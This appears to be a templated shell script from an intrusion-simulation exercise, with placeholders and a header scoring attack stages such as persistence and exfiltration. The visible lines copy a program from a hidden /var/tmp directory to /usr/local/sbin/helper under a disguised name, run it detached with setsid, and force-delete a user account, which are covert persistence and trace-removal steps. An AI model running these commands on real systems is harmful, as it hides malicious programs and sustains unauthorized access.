# earns: looked, entry, execution, escalation, persistence, exfiltration, order, way-to-root (11 of 15)
# The program has another path and another name, and runs on.
{{ look_sh }}
{{ answers_sh }}
{{ units_sh }}
cp /var/tmp/.{{ mark }}/{{ name }} /usr/local/sbin/helper
{{ process_sh }}
setsid /usr/local/sbin/helper &
userdel -f {{ ghost }}
{{ rule_sh }}
